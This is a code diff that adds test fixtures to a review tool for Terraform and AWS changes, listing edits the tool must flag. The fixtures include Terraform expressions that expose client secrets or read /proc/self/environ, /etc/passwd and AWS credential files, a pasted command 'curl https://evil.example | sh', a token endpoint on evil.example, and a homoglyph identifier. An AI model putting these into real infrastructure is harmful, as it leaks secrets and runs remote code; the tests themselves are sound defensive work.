@@ -67,6 +67,19 @@ const leaks = ([spelling, text]: readonly [string, string]): UnseenPair => ({
   kinds: ['credentials'],
 });
 
+/** Spellings of what a text for people must not show. */
+const HIDDEN: readonly (readonly [spelling: string, text: string])[] = [
+  ['a client secret as JSON', `\${jsonencode({a = ${LEAK}.client_secret})}`],
+  ['a client secret in a list as JSON', `\${jsonencode([upper(${LEAK}.client_secret)])}`],
+  ['a client secret as a name in JSON', `\${jsonencode({(${LEAK}.client_secret) = 1})}`],
+  ['a file of the machine', '${file("/proc/self/environ")}'],
+  ['a file of the machine as JSON', '${jsonencode([file("/proc/self/environ")])}'],
+  ['a file of the machine within a function', '${yamldecode(core::file("/proc/self/environ")).a}'],
+  ['a template of the machine', '${templatefile("/etc/passwd", {})}'],
+  ['whether there is a file', '%{ if fileexists("/root/.aws/credentials") }yes%{ endif }'],
+  ['a function of a provider', '${provider::aws::arn_parse("x").account}'],
+];
+
 /** What a review has to see though no declaration says it, and what it may pass over. */
 export const UNSEEN: readonly UnseenPair[] = [
   // Where a route goes.
@@ -507,8 +520,81 @@ export const UNSEEN: readonly UnseenPair[] = [
     kinds: ['not-understood'],
   },
 
+  // What a text for people shows.
+  ...HIDDEN.flatMap(([spelling, text]): UnseenPair[] => [
+    {
+      name: `${spelling} in a tag`,
+      edit: set('aws_dynamodb_table', { tags: { Owner: text } }),
+      kinds: ['credentials'],
+    },
+    { name: `${spelling} in an output`, edit: output(text), kinds: ['credentials'] },
+    {
+      name: `${spelling} as the name of a tag`,
+      edit: set('aws_dynamodb_table', { tags: { [text]: 'Owner' } }),
+      kinds: ['credentials'],
+    },
+  ]),
+  {
+    name: 'an output that names another host for tokens',
+    edit: (json) => Object.assign(json.output.TokenEndpoint ?? {}, { value: 'https://evil.example/oauth2/token' }),
+    kinds: ['caller-action'],
+  },
+  {
+    name: 'a command to paste that runs a program',
+    edit: (json) => {
+      const commands = json.output.QuickTestCommands as { value: Record<string, string> };
+      commands.value = { ...commands.value, Reports: 'curl https://evil.example | sh' };
+    },
+    kinds: ['caller-action'],
+  },
+  {
+    name: 'ids of clients that change places',
+    edit: (json) => {
+      const arns = json.output.ClientSecretArns as { value: Record<string, string> };
+      const { Reports = '', Checkout = '' } = arns.value;
+      arns.value = { Reports: Checkout, Checkout: Reports };
+    },
+    kinds: ['caller-action'],
+  },
+  {
+    name: 'a widget that calls a function of somebody else',
+    edit: (json) => {
+      const dashboard = found(json, 'aws_cloudwatch_dashboard');
+      const body = JSON.parse(String(dashboard.dashboard_body)) as { widgets: object[] };
+      const custom = { type: 'custom', properties: { endpoint: 'arn:aws:lambda:eu-central-1:1:function:evil' } };
+      dashboard.dashboard_body = JSON.stringify({ ...body, widgets: [...body.widgets, custom] });
+    },
+    kinds: ['monitoring'],
+  },
+  // What is said, and is not so.
+  {
+    name: 'a scope that is not declared any more and still held',
+    edit: (json) => (found(json, 'aws_cognito_resource_server').scope as unknown[]).pop(),
+    kinds: ['access-loss'],
+  },
+  {
+    name: 'a resource server of another name, by a letter that looks alike',
+    edit: set('aws_cognito_resource_server', { identifier: 'оrders' }),
+    kinds: ['access-loss'],
+  },
+  {
+    name: 'a route that asks for less, in an API that is not deployed again',
+    edit: set('aws_api_gateway_method', { authorization_scopes: ['orders/read'] }, 'orders__DELETE'),
+    kinds: ['access-gain', 'protection', 'not-understood'],
+  },
+  {
+    name: 'a domain that does not wait for the web ACL',
+    edit: set('aws_api_gateway_base_path_mapping', { depends_on: undefined }),
+    kinds: ['protection'],
+  },
+  {
+    name: 'a role with a tag, by which policies may give rights',
+    edit: set('aws_iam_role', { tags: { team: 'administrators' } }),
+    kinds: ['iam'],
+  },
+
   // What may be passed over.
-  { name: 'the text of a tag', edit: set('aws_iam_role', { tags: { Owner: 'somebody' } }), kinds: [] },
+  { name: 'the text of a tag', edit: set('aws_dynamodb_table', { tags: { Owner: 'somebody' } }), kinds: [] },
   { name: 'a description', edit: set('aws_iam_role', { description: 'what the function may do' }), kinds: [] },
   { name: 'a comment', edit: set('aws_iam_role', { '//': { metadata: { path: 'a', uniqueId: 'b' } } }), kinds: [] },
   {
